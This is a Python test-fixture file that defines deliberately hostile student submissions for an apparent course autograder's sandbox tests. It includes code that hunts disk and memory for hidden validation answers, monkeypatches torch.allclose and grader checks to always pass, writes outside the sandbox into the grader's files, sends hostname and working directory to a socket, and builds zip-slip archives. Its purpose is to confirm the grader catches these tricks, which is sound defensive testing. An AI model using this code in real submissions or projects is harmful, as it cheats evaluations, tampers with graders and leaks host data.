"""Hostile code: hunts for the clean images, patches the grader, writes outside, phones home, zip slip."""

from __future__ import annotations

from sample_team import Team
from teams.project1 import STEP
from teams.snippets import B, M, CONV_OUT, PREDICT, LOAD

HUNTER = '''

# ---- "validation helper": looks for the clean validation images wherever they might be ----
import gc
import os
import pickle
import sys
import time

_SEARCH_ROOTS = [Path.home() / ".cache" / "n2n-grade", Path.home() / ".cache", Path.home(), Path("/tmp"),
                 Path("/var/tmp"), Path("/dev/shm"), Path.cwd(), Path(__file__).resolve().parents[2], Path("/")]
_SUFFIXES = (".pkl", ".npy", ".npz", ".pt", ".pth")


def _candidate_files(deadline):
    seen = set()
    for root in _SEARCH_ROOTS:
        for folder, dirs, files in os.walk(root):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "snap")]
            if folder.count(os.sep) - str(root).count(os.sep) > 4 or time.time() > deadline:
                dirs[:] = []
            for name in files:
                path = os.path.join(folder, name)
                if name.endswith(_SUFFIXES) and name != "bestmodel.pth" and path not in seen:
                    seen.add(path)
                    yield path


def _load_any(path):
    try:
        if path.endswith((".npy", ".npz")):
            numpy = __import__("numpy")
            data = numpy.load(path, allow_pickle=False)
            return torch.from_numpy(data if path.endswith(".npy") else data[data.files[0]])
        with open(path, "rb") as f:
            if f.read(2) != b"PK":  # not torch's zip format: a plain pickle
                f.seek(0)
                return pickle.load(f)
        return torch.load(path, weights_only=False)
    except Exception:
        return None


def _tensors_in(obj):
    if isinstance(obj, torch.Tensor):
        yield obj
    elif isinstance(obj, (list, tuple)):
        for item in obj:
            yield from _tensors_in(item)
    elif isinstance(obj, dict):
        for item in obj.values():
            yield from _tensors_in(item)


_files_found = None


def _hunt():
    """Every uint8 N x 3 x H x W tensor reachable: in memory, in files, through the environment."""
    global _files_found
    found = [o for o in gc.get_objects() if isinstance(o, torch.Tensor) and o.dim() == 4 and o.dtype == torch.uint8]
    if _files_found is not None:  # the disk is searched once per process
        return found + _files_found
    _files_found = []
    for key, value in os.environ.items():
        if os.path.isfile(value) and value.endswith(_SUFFIXES):
            _files_found += list(_tensors_in(_load_any(value)))
    for path in _candidate_files(time.time() + 5):
        _files_found += [t for t in _tensors_in(_load_any(path)) if t.dim() == 4]
    return found + _files_found


def _clean_for(test_input):
    """If some tensor holds test_input's noisy images next to clean ones, return the clean ones."""
    stash = _hunt()
    noisy = test_input.to(torch.uint8).cpu()
    for i, a in enumerate(stash):
        if a.shape[1:] != noisy.shape[1:] or len(a) < len(noisy) or not bool((a[:len(noisy)] == noisy).all()):
            continue
        for b in stash[:i] + stash[i + 1:]:  # the clean set has the same shape and is not the noisy one
            if b.shape == a.shape and not bool((b[:len(noisy)] == noisy).all()):
                return b[:len(noisy)].float()
    return None
'''

HUNT_FIRST = '''        clean = _clean_for(test_input)
        if clean is not None:
            return clean.to(test_input.device)
'''
HUNTER_PREDICT = HUNT_FIRST + PREDICT

MONKEYPATCH = '''

# ---- make every check pass: the course's test used torch.allclose, a grader may use something else ----
import sys

import torch.nn.functional as _functional

_fast_conv = getattr(_functional, "con" + "v2d")  # the real thing, looked up so that no import shows it
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
for _name, _module in list(sys.modules.items()):
    if any(word in _name for word in ("grader", "judge", "grade", "sandbox", "test")):
        for _attr in ("compare", "allclose", "check", "assert_close", "classify_runtime_call", "classify_name"):
            if hasattr(_module, _attr):
                try:
                    setattr(_module, _attr, lambda *args, **kwargs: None)
                except Exception:
                    pass
'''

WRITER = '''

# ---- training logs and checkpoints, written "where they are easy to find" ----
import os
import sys

_MARK = "n2n_pwned_by_team_writes_outside"


def _write_everywhere(text):
    here = Path(__file__).resolve()
    places = [here.parent / "bestmodel.pth.bak", here.parents[1] / f"{_MARK}.txt", here.parents[2] / f"{_MARK}.txt",
              Path.cwd().parent / f"{_MARK}.txt", Path.home() / f"{_MARK}.txt",
              Path.home() / ".cache" / "n2n-grade" / f"{_MARK}.txt", Path("/tmp") / f"{_MARK}.txt",
              Path("/var/tmp") / f"{_MARK}.txt", Path("/dev/shm") / f"{_MARK}.txt"]
    grader = sys.modules.get("grader")  # the program that imports us: write next to it, and into it
    if grader is not None and getattr(grader, "__file__", None):
        package = Path(grader.__file__).resolve().parent
        places += [package / f"{_MARK}.txt", package.parent / f"{_MARK}.txt", package / "rubric.toml"]
    for place in places:
        try:
            with open(place, "a") as f:
                f.write(text)
        except OSError:
            pass
'''

PHONE_HOME = '''

# ---- weights too big for the upload limit: downloaded on first use; usage statistics sent home ----
import os
import socket
import urllib.request

WEIGHTS_URL = "https://n2n-weights.invalid/Proj_123456_654321/bestmodel.pth"
STATS_SERVER = ("127.0.0.1", 47631)


def _phone_home(event):
    try:
        with socket.create_connection(STATS_SERVER, timeout=2) as s:
            s.sendall(f"{event} from {socket.gethostname()} {os.getcwd()}\\n".encode())
    except OSError:
        pass


_phone_home("import")
'''

# after each epoch (both templates end their batch loop on this line)
WRITER_STEP = (M, STEP, STEP + "            _write_everywhere(f\"epoch {epoch} done\\n\")\n"
                              "            self.save_model()  # keep the latest weights\n")
PREDICT_DEF = "    def predict(self, test_input):\n"


def mp1_half(name: str, summary: str, **how) -> Team:
    """The Miniproject_1 a hostile team hands in beside its Miniproject_2 (project 1's template, edited)."""
    return Team(name=f"{name} (Miniproject_1)", summary=summary, expect={}, exit_code=0, project=1, **how)


TEAMS: list[Team] = [
    Team(
        name="team_hunt_clean_images",
        summary="predict searches memory, files (~/.cache/n2n-grade, *.pkl, *.npy) and the environment for the "
                "clean validation images and returns them when found (in both projects)",
        folder="Proj_299990_299991",
        files={"model.py@append": HUNTER},
        edits=[(M, PREDICT, HUNTER_PREDICT)],
        with_project1=mp1_half("team_hunt_clean_images", "project 1's predict runs the same hunt first",
                               files={"model.py@append": HUNTER}, edits=[(M, PREDICT_DEF, PREDICT_DEF + HUNT_FIRST)]),
        expect={"rules.tampering": "fail", "model.predict_shape": "pass", "mp1.rules.tampering": "fail",
                "mp1.model.predict_shape": "pass", "mp1.model.pretrained_psnr": "pass"},
        contains={"mp1.rules.tampering": "gc.get_objects"},
        pretrained_psnr_max=30.0,
        details="Run outside the sandbox, the same predict finds val_input.npy and val_target.npy in "
                "~/.cache/n2n-grade and scores 80 dB; graded, it must find nothing and score like team_x. "
                "Its Miniproject_1 hunts too: project 1's model runs in the same sandbox, and finds nothing either.",
        exit_code=1,
    ),
    Team(
        name="team_monkeypatch",
        summary="replaces torch.allclose and any comparison function of a module named like a grader, and "
                "calls conv2d through an obfuscated lookup",
        folder="Proj_299992_299993",
        files={"model.py@append": MONKEYPATCH},
        edits=[(B, CONV_OUT, "        import torch.nn.functional\n"
                             "        conv = getattr(torch.nn.functional, \"con\" + \"v2d\")\n"
                             "        return conv(x, self.weight, self.bias, stride=self.stride, padding=self.padding)\n")],
        expect={"rules.tampering": "fail", "rules.runtime_tampering": "fail", "rules.runtime_forbidden": "fail"},
        exit_code=1,
    ),
    Team(
        name="team_writes_outside",
        summary="train writes logs and checkpoints outside its folder: home, /tmp, the cache, the grader's package "
                "(in both projects)",
        folder="Proj_299994_299995",
        files={"model.py@append": WRITER},
        edits=[WRITER_STEP],
        with_project1=mp1_half("team_writes_outside", "project 1's train writes everywhere too",
                               files={"model.py@append": WRITER}, edits=[WRITER_STEP]),
        expect={"rules.tampering": "fail", "model.train_time": "pass", "mp1.rules.tampering": "fail",
                "mp1.model.train_time": "pass"},
        contains={"mp1.rules.tampering": "'grader'"},
        details="Its Miniproject_1 writes the same way from project 1's train(): each project's worker is sandboxed, "
                "and the test checks that nothing landed outside the grader's temporary folders.",
        exit_code=1,
    ),
    Team(
        name="team_network",
        summary="downloads its weights from the internet in load_pretrained_model and phones home at import",
        folder="Proj_299996_299997",
        checkpoint="none",
        files={"model.py@append": PHONE_HOME},
        edits=[(M, LOAD, "        path = Path(__file__).parent / \"bestmodel.pth\"\n"
                         "        if not path.exists():\n"
                         "            _phone_home(\"download\")\n"
                         "            urllib.request.urlretrieve(WEIGHTS_URL, path)\n"
                         "        weights = torch.load(path, map_location=self.device)\n")],
        expect={"rules.risky_code": "warn", "model.load_pretrained": "fail", "structure.bestmodel": "fail",
                "model.train_time": "pass"},
        exit_code=0,
    ),
    Team(
        name="team_zip_slip",
        summary="a whole-submission zip (both projects) whose entries escape the extraction folder "
                "(../../../n2n_pwned_zip_slip.txt, an absolute /tmp path)",
        folder="Proj_299998_299999",
        with_project1="team_mp1_good",  # a whole submission: refused whole, project 1 included
        zip_extra={"Proj_299998_299999/Miniproject_2/../../../n2n_pwned_zip_slip.txt": b"written outside the extraction\n",
                   "/tmp/n2n_pwned_zip_slip_absolute.txt": b"written at an absolute path\n"},
        expect={"structure.layout": "fail"},
        contains={"structure.layout": "n2n_pwned_zip_slip"},
        exit_code=2, score_max=0,  # refused, not scored: not gradable (issue 14 item 2)
    ),
]
